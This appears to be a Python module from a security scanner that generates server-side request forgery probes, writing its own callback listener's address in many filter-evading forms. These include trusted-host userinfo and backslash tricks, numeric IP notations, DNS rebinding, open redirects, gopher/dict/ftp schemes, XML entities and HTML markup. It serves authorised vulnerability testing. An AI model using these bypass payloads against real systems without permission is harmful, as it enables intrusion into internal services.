"""How the address of our listener is written for an input: plain, around filters, in other notations, by other schemes.

Every way ends at our own listener, whoever reads it and however: where one parser sees another host than the next, that
host is the target itself or one that the target's own example names. A number form that some parser could read as
somebody else's address (an octal read as a decimal) is not used at all. What is tried is named by `Technique`. Pure.
"""

from __future__ import annotations

import ipaddress
from collections.abc import Iterable
from dataclasses import dataclass, replace
from enum import StrEnum
from urllib.parse import quote

from secrecon.detect.destinations import fetch_rank, holds_url, host_in, looks_like_url, put_into, url_in
from secrecon.model.asset import Parameter
from secrecon.model.errors import BadInput
from secrecon.model.interaction import Payload
from secrecon.model.target import Origin, parse_target

HOP, LAST = "hop-", "hop-end"
REDIRECTS = HOP + "301-302-303-307-308"
"""The last part of a path for which our listener redirects to itself with each of these codes (docs/callbacks.md)."""
LIKELY = 2
_KNOWN_EXTENSIONS = (
    "png",
    "jpg",
    "gif",
    "svg",
    "json",
    "xml",
    "rss",
    "txt",
    "html",
    "css",
    "csv",
    "ico",
    "webp",
    "yml",
)


class Technique(StrEnum):
    """How the callback address is written or carried, in the order tried."""

    DIRECT = "direct"
    SHARED = "shared"
    MARKUP = "markup"
    ENTITY = "xml-entity"
    FILE = "file"
    SCHEME_RELATIVE = "scheme-relative"
    BARE_HOST = "bare-host"
    EXTENSION = "file-extension"
    USERINFO = "trusted-userinfo"
    PREFIX_DOMAIN = "trusted-prefix-domain"
    IN_REST = "trusted-in-rest"
    BACKSLASH = "backslash"
    BACKSLASH_USERINFO = "backslash-userinfo"
    FRAGMENT_USERINFO = "fragment-userinfo"
    ENCODED = "encoded-twice"
    AT = "after-userinfo"
    SUBDOMAIN = "as-subdomain"
    CUT = "rest-cut-off"
    DECIMAL = "decimal-address"
    HEXADECIMAL = "hexadecimal-address"
    OCTAL = "octal-address"
    MAPPED = "mapped-ipv6-address"
    TURNING = "turning-name"
    OPEN_REDIRECT = "own-open-redirect"
    HEADER = "header"
    HEADER_ALONE = "header-alone"
    FOLLOWED = "our-redirects"
    GOPHER = "gopher"
    DICT = "dict"
    FTP = "ftp"


WORDS = {
    Technique.DIRECT: "the address as it is",
    Technique.SHARED: "the address as it is, in one request with other inputs that had different addresses",
    Technique.MARKUP: "a page that shows a picture from the address",
    Technique.ENTITY: "an XML document with an external entity at the address",
    Technique.FILE: "a file that refers to the address",
    Technique.SCHEME_RELATIVE: "the address without its scheme",
    Technique.BARE_HOST: "the host name alone",
    Technique.EXTENSION: "the address with a file name at its end",
    Technique.USERINFO: "a trusted host as user name before the address",
    Technique.PREFIX_DOMAIN: "a trusted host as the beginning of the host name",
    Technique.IN_REST: "a trusted host in the path, the query and the fragment of the address",
    Technique.BACKSLASH: "a trusted host behind a backslash, which some parsers take for the end of the host",
    Technique.BACKSLASH_USERINFO: "a trusted host before a backslash, which some parsers take for a user name",
    Technique.FRAGMENT_USERINFO: "a trusted host behind a fragment, which some parsers take for the host",
    Technique.ENCODED: "the address percent-encoded once more",
    Technique.AT: "an @ and the address, which turns what the application puts before it into a user name",
    Technique.SUBDOMAIN: "a dot and the host name, which turns what the application puts before it into a subdomain",
    Technique.CUT: "the host name with a question mark, which cuts off what the application puts behind it",
    Technique.DECIMAL: "the listener's address as one decimal number",
    Technique.HEXADECIMAL: "the listener's address as one hexadecimal number",
    Technique.OCTAL: "the listener's address as one octal number",
    Technique.MAPPED: "the listener's address as an IPv4-mapped IPv6 address",
    Technique.TURNING: "a name that leads to the target itself when it is checked, and to our listener afterwards",
    Technique.OPEN_REDIRECT: "the target's own redirect that leads to the address",
    Technique.HEADER: "a request header, among several with different addresses",
    Technique.HEADER_ALONE: "a request header, alone",
    Technique.FOLLOWED: "an address of our listener that redirects to itself",
    Technique.GOPHER: "a gopher: address",
    Technique.DICT: "a dict: address",
    Technique.FTP: "an ftp: address",
}
SCHEMES = (Technique.GOPHER, Technique.DICT, Technique.FTP)
_TRUSTED_EACH = (Technique.USERINFO, Technique.PREFIX_DOMAIN)
_TRUSTED_ONE = (
    Technique.IN_REST,
    Technique.BACKSLASH,
    Technique.BACKSLASH_USERINFO,
    Technique.FRAGMENT_USERINFO,
)
_NUMBERS = (Technique.DECIMAL, Technique.HEXADECIMAL, Technique.OCTAL, Technique.MAPPED)
CARRIES_ON = frozenset(
    {
        Technique.DIRECT,
        Technique.SHARED,
        Technique.SCHEME_RELATIVE,
        Technique.BARE_HOST,
        Technique.USERINFO,
        Technique.PREFIX_DOMAIN,
        Technique.BACKSLASH_USERINFO,
        Technique.ENCODED,
        Technique.AT,
        Technique.SUBDOMAIN,
    }
)
"""The ways whose address can have a path of ours at its end."""
QUICK = frozenset(
    {
        Technique.SCHEME_RELATIVE,
        Technique.BARE_HOST,
        Technique.EXTENSION,
        Technique.USERINFO,
        Technique.PREFIX_DOMAIN,
        Technique.IN_REST,
        Technique.OPEN_REDIRECT,
    }
)
"""The ways around filters that a quick scan takes."""


@dataclass(frozen=True, slots=True)
class Bypass:
    """One way to write the address. `trusted`: the authority it pretends to be, "" where it needs none; the number of
    the redirect for OPEN_REDIRECT."""

    technique: Technique
    trusted: str = ""

    def __str__(self) -> str:
        return f"{self.technique} {self.trusted}".strip()


def bypass_of(payload: Payload) -> Bypass | None:
    """The bypass that a payload was made for, None where its technique is none of ours."""
    name, _, trusted = payload.technique.partition(" ")
    return Bypass(Technique(name), trusted) if name in list(Technique) else None


def bare(payload: Payload) -> str:
    """The callback address without scheme and final slash: `token.domain:port` or `address:port/token`."""
    return payload.url.partition("://")[2].rstrip("/")


def below(payload: Payload, last: str) -> str:
    """The callback address with a path of one more part."""
    return f"{payload.url.rstrip('/')}/{last}"


def redirecting(payload: Payload) -> Payload:
    """The same payload at an address of our listener that redirects to itself, again and again."""
    return replace(payload, url=below(payload, REDIRECTS))


def numbers_of(listener: Origin | None, token: str) -> dict[Technique, str]:
    """The listener's own address in other notations; empty where it is not known by an IPv4 address.

    An octal number is given only where no parser can read its digits as a decimal address.
    """
    try:
        address = ipaddress.IPv4Address(listener.host) if listener else None
    except ValueError:
        address = None
    if address is None or listener is None:
        return {}
    rest, number = f":{listener.port}/{token}", int(address)
    found = {
        Technique.DECIMAL: f"http://{number}{rest}",
        Technique.HEXADECIMAL: f"http://0x{number:08x}{rest}",
        Technique.OCTAL: f"http://0{number:o}{rest}",
        Technique.MAPPED: f"http://[::ffff:{address}]{rest}",
    }
    if int(f"{number:o}") < 2**32:
        del found[Technique.OCTAL]
    return found


def listener_at(origin: str) -> Origin | None:
    """The origin that a self-test names, None for none or one that cannot be read."""
    try:
        return parse_target(origin).origin if origin else None
    except BadInput:
        return None


def bypasses(
    parameter: Parameter,
    own: Origin,
    redirects: int,
    *,
    named: bool,
    numbers: Iterable[Technique],
    quick: bool = False,
) -> tuple[Bypass, ...]:
    """What to try after the direct address, in order.

    `own`: the target's origin. `redirects`: how many of its redirects can be used. `named`: whether the listener has a
    domain (a part of a host name needs one). `numbers`: notations of the listener's address that are worth trying.
    Where the input was seen with a whole address, ways for parts of one are left out; where it was seen with a part,
    ways around a check of whole addresses.
    """
    trusted = tuple(dict.fromkeys(filter(None, (host_in(parameter.value), own.authority))))
    likely, value = fetch_rank(parameter) >= LIKELY, parameter.value.strip()
    whole = looks_like_url(value) or holds_url(value)
    techniques = [
        Technique.SCHEME_RELATIVE,
        *(() if whole else (Technique.BARE_HOST,)),
        Technique.EXTENSION,
        *(_TRUSTED_EACH if whole or not value else ()),
        *(_TRUSTED_ONE if likely and (whole or not value) else (Technique.IN_REST,)),
        *((Technique.ENCODED,) if likely and ("%" in value or not value) else ()),
        *(() if whole else (Technique.AT, Technique.SUBDOMAIN, Technique.CUT)),
        *(numbers if likely else ()),
    ]
    found: list[Bypass] = []
    for technique in techniques:
        if (quick and technique not in QUICK) or (
            not named and technique in (Technique.PREFIX_DOMAIN, Technique.SUBDOMAIN)
        ):
            continue
        hosts = trusted if technique in _TRUSTED_EACH else trusted[:1] if technique in _TRUSTED_ONE else ("",)
        found += [Bypass(technique, host) for host in hosts]
    return (*found, *(Bypass(Technique.OPEN_REDIRECT, str(number)) for number in range(redirects)))


def value_for(bypass: Bypass, payload: Payload, parameter: Parameter, listener: Origin | None = None) -> str:
    """What `parameter` carries, in the way that its own value holds an address (see `put_into`).

    OPEN_REDIRECT needs a request of the target's, and files and headers are no values: for these it is the address.
    """
    address = _address(bypass, payload, parameter, listener)
    if bypass.technique is Technique.MARKUP:
        return markup(address)
    return put_into(parameter.value, address)


def markup(address: str) -> str:
    """A piece of HTML that makes a renderer fetch `address`, and that does nothing in a browser but show a picture."""
    return f'<p>probe <img src="{address}" alt=""><link rel="stylesheet" href="{address}"></p>'


def _address(bypass: Bypass, payload: Payload, parameter: Parameter, listener: Origin | None) -> str:
    rest = payload.url.partition("://")[2]
    host, trusted = bypass.trusted.partition(":")[0], bypass.trusted
    plain = bare(payload)
    match bypass.technique:
        case Technique.SCHEME_RELATIVE:
            return "//" + rest
        case Technique.BARE_HOST:
            return plain
        case Technique.EXTENSION:
            return below(payload, f"probe.{_extension(parameter.value)}")
        case Technique.USERINFO:
            return f"http://{trusted}@{rest}"
        case Technique.PREFIX_DOMAIN:
            return f"http://{host}.{rest}"
        case Technique.IN_REST:
            return f"http://{plain}/{trusted}?{trusted}#{trusted}"
        case Technique.BACKSLASH:
            return f"http://{plain}\\@{trusted}/"
        case Technique.BACKSLASH_USERINFO:
            return f"http://{trusted}\\@{rest}"
        case Technique.FRAGMENT_USERINFO:
            return f"http://{plain}#@{trusted}/"
        case Technique.ENCODED:
            return quote(payload.url, safe="")
        case Technique.AT:
            return "@" + rest
        case Technique.SUBDOMAIN:
            return "." + rest
        case Technique.CUT:
            return plain + "/?"
        case Technique.GOPHER:
            return f"gopher://{_authority(payload)}/_GET%20/{payload.token}%20HTTP/1.0%0D%0A%0D%0A"
        case Technique.DICT | Technique.FTP:
            return f"{bypass.technique}://{plain}/"
        case technique:
            return numbers_of(listener, payload.token).get(technique, payload.url)


def _authority(payload: Payload) -> str:
    return bare(payload).partition("/")[0]


def _extension(value: str) -> str:
    """The extension of the file that a value names, where our listener has an answer of that kind; else png."""
    found = (url_in(value) or value).partition("?")[0].rpartition("/")[2].rpartition(".")[2].lower()
    return found if found in _KNOWN_EXTENSIONS else "png"
